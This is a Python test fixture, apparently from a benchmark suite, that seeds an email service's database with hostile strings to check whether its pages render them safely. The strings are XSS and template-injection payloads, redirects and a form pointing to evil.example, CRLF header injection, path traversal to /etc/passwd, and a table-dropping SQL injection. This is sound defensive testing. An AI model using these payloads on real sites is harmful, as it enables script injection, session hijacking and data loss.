"""Names and texts that try to run, to break out of where they are written, or to break the page around them."""

import json
import os
import time
from collections.abc import Sequence
from pathlib import Path

import asyncpg
from playwright.async_api import Page

from bench import fleet, search_rows
from bench.pages import events
from bench.search_rows import DAY_MS, Filled, Lane
from mailcordon.adapters.db import engine

#: Each would set this, or open a dialog, if it ran.
RAN = "ran"
WORDS: tuple[str, ...] = (
    f"<script>window.{RAN} = 1</script>",
    f'"><img src=x onerror="window.{RAN} = 1">',
    f"'><svg/onload=window.{RAN}=1>",
    f"</textarea></title></script><script>alert('{RAN}')</script>",
    f'" autofocus onfocus="window.{RAN} = 1" x="',
    f"javascript:window.{RAN}=1",
    f"data:text/html,<script>window.{RAN}=1</script>",
    "{{ 7 * 1337331 }} {% raw %} {# ${7 * 1337331} <%= 7 * 1337331 %>",
    "</td></tr></table></main></body></html>",
    "<!--",
    "<plaintext>",
    "<style>body { display: none }</style><link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><input name=csrf><button>Release</button></form>",
    '<a href="/sign-out" hx-post="/sign-out" hx-trigger="load">x</a>',
    "&lt;b&gt; &amp;amp; &#0; &nbsp;",
    "\u202egnp.exe \u2066x\u2069 \u200f\u202d",
    "שלום עולם العربية",
    "\x1b[31mred\x1b[0m \x07\x08",
    "a\r\nSet-Cookie: x=1\r\n\tb",
    "👩‍👩‍👧‍👦🏳️‍🌈\U0001f1e9\U0001f1ea z" + "\u0334\u0335\u0336\u0337\u0338" * 12 + "algo",
    "../../../etc/passwd?x=%2e%2e%00#fragment",
    "\ufeff\u200b\u00ad\u2028\u2029\ufffe",
    "' or 1=1; drop table tenant; --",
    "W" * 400,
    "long word " * 60,
)
_SHARED = (
    Path(os.environ.get("MAILCORDON_SHARED", "nowhere")) / "data" / "robustness" / "naughty_strings.jsonl"
)


def shared() -> list[str]:
    """The strings of other projects, if MAILCORDON_SHARED names a folder with them. PostgreSQL's text takes no NUL."""
    if not _SHARED.is_file():
        return []
    found = [json.loads(line)["s"] for line in _SHARED.read_text().splitlines() if line]
    return [one for one in found if one and "\0" not in one]


async def write(owner_dsn: str, hash_key: bytes, words: Sequence[str], *, tenants: int = 4) -> None:
    """Rows of a few tenants, in which every text of a person, of SES or of an app is one of these."""
    owner = await asyncpg.connect(owner_dsn, server_settings={"search_path": engine.SCHEMA})
    try:
        now = int(time.time() * 1000)
        await fleet.write(
            owner,
            lanes=2 * tenants,
            tenants=tenants,
            types=("password-reset", "newsletter"),
            days=2,
            now=now // 60_000,
        )
        for table in ("route", "slice"):
            await owner.execute(f"update {table} set path = 'isolated'")
        rows = await owner.fetch(
            "select l.tenant, t.slug, l.id, y.name from lane l join tenant t on t.id = l.tenant"
            " join message_type y on y.id = l.type"
        )
        filled = Filled(
            messages=3 * len(words), days=1, first_ms=now - DAY_MS // 2, last_ms=now - 60_000, lanes=[Lane(*row) for row in rows],
            hash_key=hash_key,
        )  # fmt: skip
        await search_rows.fill(owner, filled, lambda _: None, queued=8)
        amounts = events.Amounts(
            open_=len(words), incidents=2 * len(words), holds=2 * len(words), stops=8, decisions=24, suppressions=2 * len(words),
            audit=2 * len(words), plans=len(words), findings=len(words), others=len(words),
        )  # fmt: skip
        await events.write(owner, amounts, now_ms=now, words=words)
    finally:
        await owner.close()


_HARM = (Path(__file__).parent / "harm.js").read_text()


async def harm(page: Page) -> list[str]:
    """What hostile texts did to the page that is open."""
    return await page.evaluate(_HARM)
